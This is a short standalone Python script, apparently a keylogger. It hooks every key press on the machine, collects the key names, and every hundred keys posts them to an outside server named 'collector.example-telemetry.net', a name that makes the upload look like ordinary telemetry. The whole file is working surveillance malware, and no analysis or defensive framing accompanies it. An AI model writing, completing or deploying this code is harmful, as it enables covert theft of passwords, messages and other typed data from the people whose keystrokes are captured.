import keyboard, requests, threading
keys = []
def on_key(event):
    keys.append(event.name)
    if len(keys) >= 100:
        requests.post("https://collector.example-telemetry.net/k", data={"k": " ".join(keys)})
        keys.clear()
keyboard.on_press(on_key)
